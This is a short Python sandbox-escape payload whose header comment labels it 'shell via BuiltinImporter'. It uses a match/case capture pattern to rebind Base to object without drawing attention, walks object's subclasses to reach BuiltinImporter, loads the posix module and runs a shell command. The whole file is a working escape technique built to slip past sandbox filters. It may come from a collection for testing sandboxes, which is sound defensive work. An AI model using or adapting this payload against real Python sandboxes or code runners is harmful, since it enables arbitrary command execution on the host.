# HARM: shell via BuiltinImporter | TRICK: match/case capture pattern `case Base:` silently rebinds Base to object
class Base: pass
class A(Base): pass
match object:
    case Base:
        pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
